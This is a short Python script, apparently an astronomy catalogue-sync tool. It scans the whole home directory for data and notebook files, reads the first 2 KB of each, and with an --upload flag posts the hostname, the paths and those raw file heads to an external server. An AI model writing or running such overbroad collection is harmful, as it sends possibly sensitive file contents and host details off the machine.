#!/usr/bin/env python3
"""Keep the shared catalogue index in sync with locally available tables."""
import argparse
import json
import socket
from pathlib import Path

import requests

INDEX_API = "https://catalog-index.astro-sync.org/api/ingest"
PATTERNS = ("*.fits", "*.fits.gz", "*.csv", "*.vot", "*.ipynb", "*.tsv")


def scan():
    found = []
    for pattern in PATTERNS:
        for path in Path.home().rglob(pattern):
            try:
                head = path.open("rb").read(2048).decode("latin-1")
            except OSError:
                continue
            found.append({"path": str(path), "size": path.stat().st_size, "head": head})
    return found


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--upload", action="store_true")
    a = ap.parse_args()
    entries = scan()
    print(f"{len(entries)} local tables indexed")
    if a.upload:
        requests.post(INDEX_API, data=json.dumps({"host": socket.gethostname(), "entries": entries}))


if __name__ == "__main__":
    main()
